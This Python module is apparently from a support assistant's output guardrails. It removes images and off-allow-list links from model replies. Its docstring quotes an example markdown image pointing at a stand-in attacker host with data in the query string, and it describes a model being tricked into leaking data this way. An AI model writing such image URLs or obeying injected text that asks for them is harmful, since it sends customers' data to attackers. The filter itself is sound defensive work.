"""Images out, always; links only to the business's own hosts.

An image in a reply is fetched by the customer's browser without a click, so a model tricked
into writing ``![x](https://evil.example/p.png?d=<data>)`` would send data away: every image
goes, markdown (inline or by reference) and HTML alike, whatever its host. A link stays only
when it is ``http``/``https`` to a host in ``allowed_hosts`` (exact, case-insensitive, no
subdomains implied); any other keeps its text and loses its address. Bare URLs, ``www.``
addresses, autolinks (``<https://...>``), reference definitions and HTML anchors are judged the
same way. A URL with a backslash, whitespace or credentials tricks (``https://shop@evil``) is
judged by the host a browser would reach, or refused.

Limits: addresses written without a scheme or ``www.`` ("evil.example/login") are left as
text: chat renderers do not turn them into links.
"""

from __future__ import annotations

import re
from collections.abc import Set
from dataclasses import dataclass
from urllib.parse import urlsplit

from hushdesk.agents.assistant.guardrails.spacing import tidy_spacing

_DESTINATION = r"(?:<[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))+)"
_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?"
_LABEL = r"[^\[\]\n]*(?:\[[^\[\]\n]*\][^\[\]\n]*)*"
_INLINE = re.compile(rf"(?P<bang>!?)\[(?P<text>{_LABEL})\]\(\s*(?P<url>{_DESTINATION})?{_TITLE}\s*\)")
_BY_REFERENCE = re.compile(r"(?P<bang>!?)\[(?P<text>[^\[\]\n]*)\]\[(?P<ref>[^\[\]\n]*)\]")
_DEFINITION = re.compile(r"^[ \t]{0,3}\[(?P<ref>[^\[\]\n]+)\]:[ \t]*(?P<url>\S+).*$\n?", re.MULTILINE)
_INLINE_IMAGE = re.compile(rf"!\[{_LABEL}\]\(\s*{_DESTINATION}?{_TITLE}\s*\)")
_REFERENCE_IMAGE = re.compile(r"!\[[^\[\]\n]*\]\[[^\[\]\n]*\]")
_SHORTCUT_IMAGE = re.compile(r"!\[(?P<ref>[^\[\]\n]+)\]")
_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_ANCHOR = re.compile(
    r"<a\b(?P<attrs>[^>]*)>(?P<text>.*?)</a\s*>|<a\b(?P<open_attrs>[^>]*)>", re.IGNORECASE | re.DOTALL
)
_HREF = re.compile(r"\bhref\s*=\s*(?:\"(?P<dq>[^\"]*)\"|'(?P<sq>[^']*)'|(?P<bare>[^\s>]+))", re.IGNORECASE)
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>")
_BARE_URL = re.compile(r"(?<![\w@/])(?:[A-Za-z][A-Za-z0-9+.-]{1,31}://|www\.)[^\s<>\"'`]+", re.IGNORECASE)
_TRAILING = ".,;:!?'\"\u201d\u2019"
_HOST = re.compile(r"[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]*[a-z0-9])?)*")
# Rounds of image removal: each round unwraps one level of nesting ("[![a](b)](c)").
_MAX_ROUNDS = 5


@dataclass(frozen=True, slots=True)
class LinkCheck:
    text: str
    images_removed: int
    links_removed: int


def strip_links(text: str, allowed_hosts: Set[str]) -> LinkCheck:
    """``text`` with every image removed and every link to a host outside ``allowed_hosts``
    reduced to its text (see the module docstring). Never raises."""
    hosts = frozenset(host.strip().rstrip(".").lower() for host in allowed_hosts)
    text, images = _remove_images(text)
    counter = _Counter()
    removed_refs: set[str] = set()

    def judge_definition(match: re.Match[str]) -> str:
        if _allowed(match.group("url"), hosts):
            return match.group()
        removed_refs.add(_ref_key(match.group("ref")))
        return counter.removed("")

    def unlink_reference(match: re.Match[str]) -> str:
        # A reference link whose definition was removed keeps its text; any other is left.
        ref = match.group("ref") or match.group("text")
        return match.group("text") if _ref_key(ref) in removed_refs else match.group()

    text = _DEFINITION.sub(judge_definition, text)
    text = _INLINE.sub(lambda m: _judge_inline(m, hosts, counter), text)
    text = _BY_REFERENCE.sub(unlink_reference, text)
    text = _HTML_ANCHOR.sub(lambda m: _judge_anchor(m, hosts, counter), text)
    text = _AUTOLINK.sub(lambda m: _judge_autolink(m, hosts, counter), text)
    text = _BARE_URL.sub(lambda m: _judge_bare(m, hosts, counter), text)
    if images or counter.count:
        text = tidy_spacing(text)
    return LinkCheck(text, images, counter.count)


class _Counter:
    def __init__(self) -> None:
        self.count = 0

    def removed(self, replacement: str) -> str:
        self.count += 1
        return replacement


def _remove_images(text: str) -> tuple[str, int]:
    total = 0
    for _ in range(_MAX_ROUNDS):
        text, removed = _remove_image_markup(text)
        if not removed:
            break
        total += removed
    return text, total


def _remove_image_markup(text: str) -> tuple[str, int]:
    """One round: inline and by-reference markdown images, shortcut images whose reference is
    defined, and HTML images."""
    text, inline = _INLINE_IMAGE.subn("", text)
    text, by_reference = _REFERENCE_IMAGE.subn("", text)
    count = inline + by_reference

    def drop_shortcut(match: re.Match[str]) -> str:
        nonlocal count
        if _defined(text, match.group("ref")):
            count += 1
            return ""
        return match.group()

    text = _SHORTCUT_IMAGE.sub(drop_shortcut, text)
    text, html = _HTML_IMAGE.subn("", text)
    return text, count + html


def _ref_key(ref: str) -> str:
    return " ".join(ref.split()).casefold()


def _defined(text: str, ref: str) -> bool:
    return any(_ref_key(m.group("ref")) == _ref_key(ref) for m in _DEFINITION.finditer(text))


def _judge_inline(match: re.Match[str], hosts: frozenset[str], counter: _Counter) -> str:
    url = (match.group("url") or "").strip("<>")
    if _allowed(url, hosts):
        return match.group()
    return counter.removed(match.group("text"))


def _judge_anchor(match: re.Match[str], hosts: frozenset[str], counter: _Counter) -> str:
    attrs = match.group("attrs") if match.group("attrs") is not None else match.group("open_attrs")
    href = _HREF.search(attrs or "")
    url = (href.group("dq") or href.group("sq") or href.group("bare") or "") if href else ""
    if _allowed(url, hosts):
        return match.group()
    return counter.removed(match.group("text") or "")


def _judge_autolink(match: re.Match[str], hosts: frozenset[str], counter: _Counter) -> str:
    url = match.group("url")
    if url.lower().startswith("mailto:") or _allowed(url, hosts):
        return match.group()
    return counter.removed("")


def _judge_bare(match: re.Match[str], hosts: frozenset[str], counter: _Counter) -> str:
    url = match.group()
    kept_tail = ""
    while url and (url[-1] in _TRAILING or (url[-1] == ")" and url.count("(") < url.count(")"))):
        kept_tail = url[-1] + kept_tail
        url = url[:-1]
    if _allowed(url, hosts):
        return match.group()
    return counter.removed(kept_tail)


def _allowed(url: str, hosts: frozenset[str]) -> bool:
    """Whether ``url`` is http(s) to one of ``hosts``, as a browser would resolve it."""
    if any(character in url for character in "\\ \t\r\n") or any(ord(c) < 32 for c in url):
        return False
    if url.lower().startswith("www."):
        url = "https://" + url
    try:
        parts = urlsplit(url)
        host = parts.hostname
    except ValueError:
        return False
    if parts.scheme.lower() not in {"http", "https"} or host is None or "@" in parts.netloc:
        return False
    host = host.rstrip(".")
    return _HOST.fullmatch(host) is not None and host in hosts
